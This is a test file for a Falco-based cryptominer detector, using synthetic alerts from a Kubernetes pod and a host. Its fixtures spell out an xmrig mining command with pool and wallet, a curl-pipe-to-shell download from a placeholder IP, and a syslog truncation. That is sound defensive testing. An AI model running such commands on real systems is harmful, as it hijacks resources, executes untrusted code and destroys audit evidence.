import { test } from "node:test";
import assert from "node:assert/strict";
import type { Event } from "../../../model/index.js";
import { WEAK_CONFIDENCE } from "../../../model/index.js";
import { runDetector } from "../../../test-helpers/index.js";
import { defaultConfig } from "../../config.js";
import { falcoMiner, isMinerRule } from "./falco-miner.js";

/**
 * Falco json_output alerts as the Falco source emits them (docs/events.md "Containers and
 * Kubernetes"): rule → rule.name, output → message, priority → minerhunt.alert.severity,
 * output_fields proc.* / container.* / k8s.* / fd.* → the ECS fields.
 */
let line = 0;
function falco(rule: string, fields: Event, over: Event = {}): Event {
  return {
    "@timestamp": "2026-11-20T03:14:07.341081180Z",
    "event.dataset": "falco.alerts",
    "event.kind": "alert",
    "event.category": ["process"],
    "rule.name": rule,
    "minerhunt.alert.severity": "critical",
    "host.name": "ip-10-0-12-34.ec2.internal",
    "log.file.path": "/var/log/falco/events.json",
    "minerhunt.line": ++line,
    "minerhunt.format": "falco.json",
    ...fields,
    ...over,
  };
}

const minerInPod: Event = {
  "message": "03:14:07.341081180: Critical Possible miner running (command=/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1 pid=4711 container=3f1e2d9c8b7a payments-api-7d9f8b6c5-x2x4k image=ghcr.io/acme/payments-api)",
  "process.name": "xmrig",
  "process.executable": "/tmp/.x/xmrig",
  "process.command_line": "/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1",
  "process.parent.name": "sh",
  "process.pid": 4711,
  "container.id": "3f1e2d9c8b7a",
  "container.name": "k8s_payments-api_payments-api-7d9f8b6c5-x2x4k_prod_1",
  "container.image.name": "ghcr.io/acme/payments-api",
  "container.image.tag": "1.42.0",
  "orchestrator.namespace": "prod",
  "orchestrator.resource.name": "payments-api-7d9f8b6c5-x2x4k",
  "user.name": "root",
};

test("routes Falco alerts only", () => {
  assert.deepEqual(falcoMiner.routes, { datasets: ["falco.alerts"] });
});

test("which rules are miner rules", () => {
  assert.ok(isMinerRule("Detect crypto miners using the Stratum protocol", []));
  assert.ok(isMinerRule("Detect outbound connections to common miner pool ports", []));
  assert.ok(isMinerRule("Known Cryptominer Process Executed", []));
  assert.ok(isMinerRule("Suspicious binary", ["container", "T1496", "mitre_impact"]));
  assert.ok(!isMinerRule("Error determining container image", ["container"]), "'determining' is not 'mining'");
  assert.ok(!isMinerRule("Terminal shell in container", ["container", "shell", "mitre_execution", "T1059"]));
});

test("Falco Stratum rule in a pod: a container finding with its pod, image and pool", () => {
  const [f, ...rest] = runDetector(falcoMiner, [falco("Detect crypto miners using the Stratum protocol", minerInPod)]);
  assert.equal(rest.length, 0);
  assert.ok(f);
  assert.equal(f.trigger, "container");
  assert.equal(f.confidence, 0.85);
  assert.equal(f.severity, "critical");
  assert.match(f.title, /^Falco "Detect crypto miners using the Stratum protocol" in container k8s_payments-api/);
  assert.deepEqual(f.entities.containers, ["3f1e2d9c8b7a"]);
  assert.deepEqual(f.entities.pods, ["payments-api-7d9f8b6c5-x2x4k"]);
  assert.deepEqual(f.entities.namespaces, ["prod"]);
  assert.deepEqual(f.entities.images, ["ghcr.io/acme/payments-api"]);
  assert.deepEqual(f.entities.hosts, ["ip-10-0-12-34.ec2.internal"]);
  assert.match(String(f.facts?.["miner.signs"]), /miner xmrig, stratum\+tcp:\/\/, --donate-level/);
  assert.ok(f.observables.some((o) => o.type === "command-line"));
  assert.equal(f.evidence[0]!.file, "/var/log/falco/events.json");
  assert.equal(typeof f.evidence[0]!.line, "number");
});

test("the pool-port rule on the host: a host finding with the pool as ip:port", () => {
  const [f] = runDetector(falcoMiner, [falco("Detect outbound connections to common miner pool ports", {
    "message": "Outbound connection to IP/Port flagged by https://cryptoioc.ch (proc.cmdline=kworkerds ip=141.94.96.144 port=3333)",
    "process.name": "kworkerds", "process.command_line": "kworkerds", "container.id": "host",
    "destination.ip": "141.94.96.144", "destination.port": 3333,
  })]);
  assert.ok(f);
  assert.equal(f.trigger, "host");
  assert.equal(f.entities.containers, undefined, "Falco's container.id 'host' is not a container");
  assert.deepEqual(f.entities.pools, ["141.94.96.144:3333"]);
});

test("a related rule on a miner process is weak support", () => {
  const [f, ...rest] = runDetector(falcoMiner, [falco("Drop and execute new binary in container", minerInPod, {
    "minerhunt.alert.severity": "critical",
    "message": "Executing binary not part of base image (proc_exepath=/tmp/.x/xmrig ...)",
  })]);
  assert.equal(rest.length, 0);
  assert.ok(f);
  assert.ok(f.confidence < WEAK_CONFIDENCE);
  assert.equal(f.severity, "low");
  assert.match(f.title, /on a miner process/);
  assert.ok(f.tags?.includes("supporting"));

  const campaign = runDetector(falcoMiner, [falco("Execution from /dev/shm", {
    "process.name": "kdevtmpfsi", "process.executable": "/dev/shm/kdevtmpfsi", "process.command_line": "/dev/shm/kdevtmpfsi", "container.id": "host",
  })]);
  assert.equal(campaign.length, 1);
  assert.equal(campaign[0]!.facts?.["miner.signs"], "campaign name kdevtmpfsi");
});

test("traps: related rules without a miner, look-alike names, the allowlist", () => {
  const nothing = runDetector(falcoMiner, [
    falco("Run shell untrusted", { "process.name": "bash", "process.command_line": "bash -c curl -fsSL http://203.0.113.5/x.sh | sh", "container.id": "3f1e2d9c8b7a" }),
    falco("Clear Log Activities", { "process.name": "truncate", "process.command_line": "truncate -s 0 /var/log/syslog" }),
    falco("Terminal shell in container", { "process.name": "sh", "process.command_line": "sh -c echo determining pool.ntp.org", "container.id": "3f1e2d9c8b7a" }),
    // A Prometheus exporter for XMRig is not XMRig.
    falco("Drop and execute new binary in container", { "process.name": "xmrig-exporter", "process.command_line": "/xmrig-exporter --url http://xmrig:8080", "container.id": "3f1e2d9c8b7a" }),
    falco("", minerInPod),
  ]);
  assert.deepEqual(nothing.map((f) => f.title), []);

  const allowed = runDetector(falcoMiner, [falco("Drop and execute new binary in container", { "process.name": "xmrig", "process.command_line": "xmrig --bench=1M" })],
    { config: { allowlist: { domains: [], ips: [], processes: ["xmrig"], hosts: [], images: [] } } });
  assert.equal(allowed.length, 0, "a site that allowlists a benchmark binary");
});

test("the same rule firing on every exec of one miner is one finding with all its evidence", () => {
  const events = [1, 2, 3].map((n) => falco("Detect crypto miners using the Stratum protocol", minerInPod, { "@timestamp": `2026-11-20T03:1${n}:00.000000000Z` }));
  const findings = runDetector(falcoMiner, events.reverse());
  assert.equal(findings.length, 1);
  assert.equal(findings[0]!.evidenceCount, 3);
  assert.equal(findings[0]!.firstSeen, "2026-11-20T03:11:00.000000000Z");
  assert.equal(findings[0]!.lastSeen, "2026-11-20T03:13:00.000000000Z");
  const otherPod = falco("Detect crypto miners using the Stratum protocol", { ...minerInPod, "container.id": "9a8b7c6d5e4f" });
  assert.equal(runDetector(falcoMiner, [...events, otherPod]).length, 2);
});

test("a miner that is the entrypoint of the organisation's own image is tagged miner-in-image (PB-32 supply chain)", async () => {
  const { assess, loadPlaybook } = await import("../../../playbook/index.js");
  const rule = "Detect crypto miners using the Stratum protocol";
  // The container runtime started it: it was built into ghcr.io/acme/payments-api.
  const [baked] = runDetector(falcoMiner, [falco(rule, minerInPod, { "process.parent.name": "containerd-shim" })]);
  assert.ok(baked!.tags?.includes("miner-in-image"), String(baked!.tags));
  assert.ok(baked!.mitre.includes("T1195.002"));
  const a = assess({ entities: baked!.entities, scope: { hosts: 1, instances: 0, regions: 0, accounts: 0, clusters: 0 }, findings: [baked!] }, defaultConfig(), loadPlaybook("PB-31"));
  assert.ok(a.escalations.some((e) => e.playbook === "PB-32"), a.escalations.map((e) => e.id).join(","));
  // Started from a shell inside a running container, or a public miner image deployed by an attacker: not supply chain.
  const [shell] = runDetector(falcoMiner, [falco(rule, minerInPod)]);
  assert.ok(!shell!.tags?.includes("miner-in-image"));
  const [publicMiner] = runDetector(falcoMiner, [falco(rule, minerInPod, { "process.parent.name": "containerd-shim", "container.image.name": "docker.io/metal3d/xmrig" })]);
  assert.ok(!publicMiner!.tags?.includes("miner-in-image"));
});
